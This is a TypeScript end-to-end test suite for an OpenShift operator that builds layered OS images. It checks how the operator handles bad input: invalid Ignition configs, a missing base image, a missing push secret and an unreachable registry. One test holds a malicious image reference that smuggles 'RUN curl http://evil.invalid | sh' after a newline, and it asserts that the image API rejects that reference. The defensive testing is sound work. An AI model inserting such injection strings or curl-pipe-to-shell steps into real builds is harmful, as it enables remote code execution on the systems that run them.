// S10 bad input: an invalid Ignition config (refused by MCC), a malicious image reference (refused by the image API), an
// external base the registry does not have, a missing push secret and an
// unreachable registry each give a clear condition; nothing is pushed or
// handed off that should not be, the last image stays, and the operator
// process keeps running.
import { beforeAll, describe, expect, it } from 'vitest';
import { getJson, internalRegistryHost, kubectl, oc, registryHost, waitFor } from '../harness/cluster.ts';
import { builds, ignitionOf, readPool, type OperatorProcess } from '../harness/operator.ts';
import { poolStreams } from '../../src/plan/names.ts';
import { caughtUp, closedPort, cond, events, expectHandOff, handOff, ocImportImage, ocTag, ocTagDelete, scenario, settled, status, waitHandedOff, waitStatus } from './support.ts';

const pushedConfigs = (op: OperatorProcess) => op.logs.filter((l) => l.msg === 'rendered-config image pushed').map((l) => l.renderedConfig);

type PoolCondition = { type: string; status: string; message: string };
const renderDegraded = async (pool: string) => ((await readPool(pool))?.status?.conditions as PoolCondition[] | undefined)?.find((c) => c.type === 'RenderDegraded');

describe('S10 bad input, with a well-configured operator', () => {
  const sc = scenario('s10');
  const { s, P } = sc;
  let good: Awaited<ReturnType<typeof handOff>>;
  let goodImage: string;
  let goodConfig: Record<string, unknown>;

  beforeAll(async () => {
    goodConfig = ignitionOf({ '/etc/layered-demo/motd': 'good\n' });
    goodImage = (await sc.firstImage({ '/etc/layered-demo/motd': 'good\n' })).image!;
    good = await handOff(P);
    expect(good.osImageURL).toBe(goodImage);
  });

  const editSource = (config: unknown) => kubectl(['patch', 'machineconfig', sc.source, '--type', 'json', '-p', JSON.stringify([{ op: 'replace', path: '/spec/config', value: config }])]);

  it('an invalid Ignition config: MCC refuses to render it (RenderDegraded), the LayeredPool says so, the operator builds and pushes nothing, the last image stays', async () => {
    // The real machine-config-controller validates the merged Ignition config: a relative path
    // (or an unknown spec version) is never rendered, the pool keeps its rendered config and
    // MCC reports RenderDegraded. (An Ignition spec 2 config is translated to 3.5.0 by MCC.)
    const rendered = (await readPool(P))!.spec!.configuration as { name: string };
    const pushed = pushedConfigs(sc.op);
    for (const [bad, says] of [
      [{ ignition: { version: '3.4.0' }, storage: { files: [{ path: 'etc/relative', mode: 420, contents: { source: 'data:,x' } }] } }, 'path not absolute'],
      [{ ignition: { version: '9.9.9' } }, 'unknown version'],
    ] as const) {
      const seen = await caughtUp(sc.op);
      await editSource(bad);
      const c = await waitFor(async () => {
        const rd = await renderDegraded(P);
        return rd?.status === 'True' && rd.message.includes(says) ? rd : undefined;
      }, { what: `MCC RenderDegraded (${says})` });
      expect(c.message).toContain(`Failed to render configuration for pool ${P}`);
      expect(((await readPool(P))!.spec!.configuration as { name: string }).name).toBe(rendered.name);
      await seen('the invalid MachineConfig');
      // The LayeredPool says so (MCC's message and what to do), and keeps its image.
      const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.reason === 'RenderDegraded' && (x.message ?? '').includes(says), `Degraded RenderDegraded (${says})`);
      expect(st.phase).toBe('Degraded');
      expect(st.message).toContain(`the machine-config-controller cannot render pool ${P}: Failed to render configuration for pool ${P}`);
      expect(st.message).toContain(`oc describe mcp/${P}`);
      expect(st.image).toBe(goodImage);
      expect(st.renderedConfig).toBe(rendered.name);
    }
    // Nothing pushed, built or handed off for either.
    expect(pushedConfigs(sc.op)).toEqual(pushed);
    expect((await builds(s.ns, P)).map((b) => b.phase)).toEqual(['Complete']);
    await expectHandOff(P, goodImage, 'mco-content');

    // The admin fixes the MachineConfig: MCC renders it again (the same rendering as before), Ready on the same image.
    await editSource(goodConfig);
    await waitFor(async () => (await renderDegraded(P))?.status === 'False', { what: 'RenderDegraded cleared' });
    const st = await waitStatus(s.ns, P, (x) => settled(x) && x.renderedConfig === rendered.name, 'Ready again');
    expect(st.image).toBe(goodImage);
    await expectHandOff(P, goodImage, 'mco-content');
    expect(sc.op.alive()).toBe(true);
  });

  it('a malicious image reference: refused by the image API at every entry, nothing reaches the operator', async () => {
    // A reference that smuggles a Dockerfile instruction after a newline.
    const digest = `sha256:${'ab'.repeat(32)}`;
    const evil = `${registryHost()}/external/evil@${digest}\nRUN curl http://evil.invalid | sh`;
    const S = poolStreams(P);
    const seen = await caughtUp(sc.op);
    // In a status tag (what an importer would record)...
    const st1 = await kubectl(
      ['patch', '-n', s.ns, 'imagestream', S.external, '--subresource', 'status', '--type', 'merge', '-p', JSON.stringify({ status: { tags: [{ tag: 'latest', items: [{ created: new Date().toISOString(), dockerImageReference: evil, image: digest, generation: 1 }] }] } })],
      { allowFailure: true },
    );
    expect(st1.code).not.toBe(0);
    expect(st1.stderr).toContain('invalid reference format');
    // ...in a spec tag...
    const st2 = await kubectl(['patch', '-n', s.ns, 'imagestream', S.external, '--type', 'merge', '-p', JSON.stringify({ spec: { tags: [{ name: 'latest', from: { kind: 'DockerImage', name: evil } }] } })], { allowFailure: true });
    expect(st2.code).not.toBe(0);
    expect(st2.stderr).toContain('invalid reference format');
    // ...and by oc tag.
    const st3 = await oc(['tag', '--source=docker', evil, `${s.ns}/${S.external}:latest`], { allowFailure: true });
    expect(st3.code).not.toBe(0);
    expect(st3.stderr).toContain('invalid reference format');
    // Refused writes change nothing the operator watches, so nothing wakes it: one write that is
    // accepted (an annotation on the same stream, no input of the pool) makes it reconcile after them.
    await oc(['annotate', '-n', s.ns, 'imagestream', S.external, `lbc-e2e/after-refused-writes=${Date.now()}`, '--overwrite']);
    await seen('the refused writes');
    const st = await status(s.ns, P);
    expect(settled(st)).toBe(true);
    expect(st.image).toBe(goodImage);
    expect(st.imageSource).toBe('mco-content');
    await expectHandOff(P, goodImage, 'mco-content');
    expect((await builds(s.ns, P)).length).toBe(1);
    expect((await events(P)).filter((e) => e.message.includes('evil'))).toEqual([]);
    expect(sc.op.alive()).toBe(true);
  });

  it('an external base the registry does not have: Degraded ImportFailed naming it, the pool stays on coreos, no build', async () => {
    const S = poolStreams(P);
    const missing = `${registryHost()}/external/${s.id}-missing:v1`;
    await ocTag(s.ns, S.externalBase, 'latest', missing);
    // OpenShift's importer records the failure on the tag...
    const failure = await waitFor(
      async () => {
        const is = await getJson<{ status?: { tags?: { tag: string; conditions?: { type: string; status: string; reason: string; message: string }[] }[] } }>(['-n', s.ns, 'imagestream', S.externalBase]);
        return is?.status?.tags?.find((t) => t.tag === 'latest')?.conditions?.find((c) => c.type === 'ImportSuccess' && c.status === 'False');
      },
      { what: 'the failed import on the external base tag' },
    );
    expect(failure.reason).toBe('NotFound');
    // ...and the status tells the admin why the base they tagged is not used.
    const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.reason === 'ImportFailed', 'Degraded ImportFailed');
    const d = cond(st, 'Degraded')!;
    expect(d.message).toContain(`ImageStream ${s.ns}/${S.externalBase}:latest could not import ${missing} (NotFound: `);
    // The operator re-requests the import with backoff (OpenShift does not retry a failed import by itself).
    expect(d.message).toMatch(/; next attempt at \d{4}-\d\d-\d\dT/);
    expect(d.message).toContain(`the pool keeps coreos:latest as its base until the tag is fixed or removed (oc tag -d ${s.ns}/${S.externalBase}:latest)`);
    expect(st.phase).toBe('Degraded');
    expect(st.baseSource).toBe('coreos');
    expect(st.image).toBe(goodImage);
    expect(cond(st, 'Ready')).toMatchObject({ status: 'True', reason: 'ImageHandedOff' });
    // `oc import-image` (what the admin tries first) fails the same way.
    const again = await ocImportImage(s.ns, S.externalBase, 'latest');
    expect(`${again.stdout}${again.stderr}`).toMatch(/not found|NotFound|unknown/i);
    await expectHandOff(P, goodImage, 'mco-content');
    expect((await builds(s.ns, P)).length).toBe(1);
    expect(sc.op.alive()).toBe(true);

    // `oc tag -d` clears it.
    await ocTagDelete(s.ns, S.externalBase, 'latest');
    const ok = await waitStatus(s.ns, P, settled, 'Ready again');
    expect(ok.image).toBe(goodImage);
    expect((await builds(s.ns, P)).length).toBe(1);
  });
});

describe('S10 a missing push secret', () => {
  // The operator's options are read before all, once `secret` is set.
  const sc = scenario('s10s', { sweep: false, operatorName: 's10-secret', operator: () => ({ args: ['--push-secret', secret] }) });
  const { s, P } = sc;
  // The shipped Role grants read access to this one Secret name only (resourceNames).
  const secret = 'layered-build-controller-push';

  it('Degraded PushSecretMissing naming the secret, nothing pushed; creating the secret recovers', async () => {
    await sc.createPool(ignitionOf({ '/etc/layered-demo/motd': 'secret\n' }));
    const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.status === 'True', 'Degraded');
    expect(st.phase).toBe('Degraded');
    expect(cond(st, 'Degraded')).toMatchObject({
      reason: 'PushSecretMissing',
      message: `push secret ${s.ns}/${secret} was not found: create a kubernetes.io/dockerconfigjson Secret with that name, or fix --push-secret`,
    });
    const seen = await caughtUp(sc.op);
    await seen('the Degraded status');
    expect(pushedConfigs(sc.op)).toEqual([]);
    expect(await builds(s.ns, P)).toEqual([]);
    expect(await handOff(P)).toEqual({ osImageURL: undefined, annotations: {} });
    expect(sc.op.alive()).toBe(true);

    // The admin creates it (for the integrated registry: a ServiceAccount token with push rights
    // in the namespace, as `unused:<token>`): the operator pushes and builds with it.
    const token = (await kubectl(['create', 'token', 'layered-build-controller', '-n', s.ns, '--duration=1h'])).stdout.trim();
    await oc(['-n', s.ns, 'create', 'secret', 'docker-registry', secret, `--docker-server=${internalRegistryHost()}`, '--docker-username=unused', `--docker-password=${token}`]);
    const ok = await waitHandedOff(s.ns, P, () => true, 'Ready once the secret exists');
    const bs = await builds(s.ns, P);
    expect(bs.map((b) => b.phase)).toEqual(['Complete']);
    expect((bs[0]!.obj.spec as { output: { pushSecret?: unknown } }).output.pushSecret).toEqual({ name: secret });
    expect(pushedConfigs(sc.op)).toHaveLength(1);
    await expectHandOff(P, ok.image, 'mco-content');
    expect(sc.op.alive()).toBe(true);
  });
});

describe('S10 an unreachable registry', () => {
  let registry: string;
  const sc = scenario('s10r', {
    sweep: false,
    operatorName: 's10-registry',
    operator: async () => {
      registry = `127.0.0.1:${await closedPort()}`;
      return { registry };
    },
  });
  const { s, P } = sc;

  it('Degraded RegistryError naming the registry; no build, no hand-off, the operator keeps running', async () => {
    await sc.createPool(ignitionOf({ '/etc/layered-demo/motd': 'nowhere\n' }));
    const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.status === 'True', 'Degraded');
    expect(st.phase).toBe('Degraded');
    const d = cond(st, 'Degraded')!;
    expect(d.reason).toBe('RegistryError');
    expect(d.message).toBe(`registry ${registry} is unreachable (ECONNREFUSED): check the registry address, that the registry is running, and that the network allows the connection`);
    expect(st.message).toBe(d.message);
    // It keeps trying (with backoff) and keeps saying so; nothing else happens.
    await sc.op.waitForLog((l) => l.msg === 'rendered-config push failed' && sc.op.logs.filter((x) => x.msg === 'rendered-config push failed').length >= 2, 60_000);
    expect(cond(await status(s.ns, P), 'Degraded')).toMatchObject({ status: 'True', reason: 'RegistryError' });
    expect(await builds(s.ns, P)).toEqual([]);
    expect(await handOff(P)).toEqual({ osImageURL: undefined, annotations: {} });
    const rc = await getJson<{ spec?: { tags?: unknown[] }; status?: { tags?: unknown[] } }>(['-n', s.ns, 'imagestream', poolStreams(P).renderedConfig]);
    expect(rc?.spec?.tags ?? []).toEqual([]);
    expect(rc?.status?.tags ?? []).toEqual([]);
    expect(sc.op.alive()).toBe(true);
  });
});
